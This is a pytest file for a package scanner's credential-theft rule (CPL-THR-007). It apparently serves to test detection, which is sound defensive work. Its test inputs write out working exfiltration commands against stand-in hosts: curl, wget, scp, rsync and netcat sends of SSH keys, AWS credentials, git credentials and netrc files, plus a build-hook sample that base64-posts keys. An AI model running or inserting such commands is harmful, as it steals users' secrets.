"""Credential files handed to a program that sends them (caplet._scan._sink_uploads).

The attacks are the known misses of issue 16's larger held-out set that branch recall14
took on (each fails on main at 33365dd): no Python read of the file exists for the data
flow to follow, the program reads and sends it. The near misses are the same programs
given the same paths where they send nothing: an identity file, a netrc for
authentication, a download into ``~/.ssh``, a local copy.
"""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from caplet._findings import Severity
from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_source
from tests._scan.prefilterkit import found_in_a_package


def danger(source: str, mode: ScanMode) -> set[str]:
    findings = scan_source(textwrap.dedent(source), "pkg/__init__.py", mode=mode)
    return {f.rule_id for f in findings if f.severity is Severity.DANGER}


ATTACKS = [
    # curl's multipart form field from a file, the path an f-string's field
    """
    import os, subprocess
    URL = "https://k.recall14.example/u"
    subprocess.run(["curl", "-F", f"f=@{os.path.expanduser('~/.ssh/id_rsa')}", URL])
    """,
    # curl's upload of a file named in a shell string
    """
    import os
    os.system("curl -s -T ~/.aws/credentials https://k.recall14.example/aws")
    """,
    # curl's data read from a file (@file), the path joined under the home folder
    """
    import os, subprocess
    f = os.path.join(os.path.expanduser("~"), ".git-credentials")
    subprocess.run(["curl", "--data-binary", "@" + f, "https://k.recall14.example/g"])
    """,
    # wget's body from a file, glued into a shell string
    """
    import os, subprocess
    key = os.path.join(os.path.expanduser("~"), ".ssh", "id_ed25519")
    subprocess.call("wget -q --post-file=" + key + " http://198.51.100.23/k", shell=True)
    """,
    # the whole folder copied to a remote by scp and by rsync
    """
    import os, subprocess
    src = os.path.expanduser("~/.ssh")
    subprocess.Popen(["scp", "-r", "-o", "StrictHostKeyChecking=no", src, "u@198.51.100.7:/tmp/k"])
    """,
    """
    import os
    os.system("rsync -az -e 'ssh -o StrictHostKeyChecking=no' ~/.ssh/ u@198.51.100.7:/tmp/k/ &")
    """,
    # read by one program and piped into one that sends, inside sh -c
    """
    import subprocess
    subprocess.run(["sh", "-c", "cat ~/.aws/credentials | curl --data-binary @- https://k.recall14.example/"])
    """,
    # redirected into netcat
    """
    import os
    os.system("nc 198.51.100.7 4444 < ~/.ssh/id_rsa")
    """,
    # a command list bound to a name, curl --data-urlencode name@file
    """
    import subprocess
    cmd = ["curl", "--data-urlencode", "k@/root/.netrc", "https://k.recall14.example/"]
    subprocess.check_output(cmd)
    """,
]


@pytest.mark.parametrize("source", ATTACKS)
@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
def test_a_credential_file_given_to_a_program_that_sends_it_is_theft(
    source: str, mode: ScanMode
) -> None:
    assert "CPL-THR-007" in danger(source, mode)


@pytest.mark.parametrize("source", ATTACKS)
def test_the_prefilter_sends_every_upload_to_the_rule(
    source: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    found_in_a_package(tmp_path, monkeypatch, textwrap.dedent(source), "CPL-THR-007")


@pytest.mark.parametrize(
    "source",
    [
        # deploy scripts: the key is the identity, the build is what is sent
        """
        import os, subprocess
        key = os.path.expanduser("~/.ssh/id_rsa")
        subprocess.run(["scp", "-i", key, "dist/app.tar.gz", "deploy@192.0.2.10:/srv/"])
        """,
        """
        import os
        os.system("rsync -az -e 'ssh -i ~/.ssh/deploy_key' build/ deploy@192.0.2.10:/srv/app/")
        """,
        # keys fetched from a remote into ~/.ssh: a download, not an upload
        """
        import subprocess
        subprocess.run(["scp", "backup@192.0.2.10:keys/known_hosts", "/home/ci/.ssh/known_hosts"])
        """,
        # a local copy of the folder
        """
        import os
        os.system("rsync -a ~/.ssh/ /mnt/backup/ssh/")
        """,
        # curl authenticating with a netrc and a client certificate, uploading a build
        """
        import subprocess
        subprocess.run(["curl", "--netrc-file", "/home/ci/.netrc", "-T", "dist/app.whl",
                        "https://upload.example.org/"])
        """,
        """
        import os
        os.system("curl -d @payload.json --cert ~/.ssh/client.pem https://api.example.org/")
        """,
        # a public key installed on a server (what ssh-copy-id does)
        """
        import os
        os.system("cat ~/.ssh/id_ed25519.pub | ssh deploy@192.0.2.10 'cat >> .ssh/authorized_keys'")
        """,
        # the key printed on the terminal, piped into a local program
        """
        import os
        os.system("cat ~/.ssh/id_rsa.pub | grep ssh-ed25519")
        """,
    ],
)
@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
def test_a_credential_file_a_program_only_uses_is_not_sent(source: str, mode: ScanMode) -> None:
    assert "CPL-THR-007" not in danger(source, mode)


#: recall16 (blind15's b15-ls-pdm-build-hook): a credential's text substituted into a
#: sending program's data, in a script kept in a multi-line literal, run by bash -c; a
#: variable set from the substitution and sent; backticks. Clean on main.
SUBSTITUTED = [
    '''
    import subprocess
    SCRIPT = r"""
    u=$(id -un); h=$(hostname)
    curl -s -X POST -d "u=$u&h=$h&k=$(cat ~/.ssh/id_* 2>/dev/null | base64 -w0)" https://h.example/i
    """
    def pdm_build_initialize(context):
        subprocess.run(["bash", "-c", SCRIPT], check=False)
    ''',
    """
    import os
    os.system('k=$(base64 -w0 ~/.aws/credentials); wget -q --post-data="k=$k" http://198.51.100.4/')
    """,
    """
    import subprocess
    subprocess.run("curl -d k=`cat ~/.git-credentials` https://h.example/g", shell=True)
    """,
]


@pytest.mark.parametrize("source", SUBSTITUTED)
@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
def test_a_credential_substituted_into_what_a_program_sends_is_theft(
    source: str, mode: ScanMode
) -> None:
    assert "CPL-THR-007" in danger(source, mode)


@pytest.mark.parametrize("source", SUBSTITUTED)
def test_the_prefilter_sends_every_substituted_upload_to_the_rule(
    source: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    found_in_a_package(tmp_path, monkeypatch, textwrap.dedent(source), "CPL-THR-007")


@pytest.mark.parametrize(
    "source",
    [
        # a token authenticating the request to its own service: an identity, as --netrc-file
        """
        import os
        os.system('curl -H "Authorization: Bearer $(cat ~/.config/gh/hosts.yml)" https://api.github.com/user')
        """,
        # a version file's text posted, a key's fingerprint computed locally
        """
        import os
        os.system('curl -d "v=$(cat VERSION)" https://ci.example.org/report; '
                  'fp=$(ssh-keygen -lf ~/.ssh/id_rsa.pub); echo "$fp"')
        """,
        # a credential read into a variable that no sending program is given
        """
        import os
        os.system('k=$(cat ~/.netrc); echo "${#k}"; curl -s https://example.org/ping')
        """,
    ],
)
def test_a_credential_substituted_where_nothing_sends_it_is_not_theft(source: str) -> None:
    assert "CPL-THR-007" not in danger(source, ScanMode.PACKAGE)
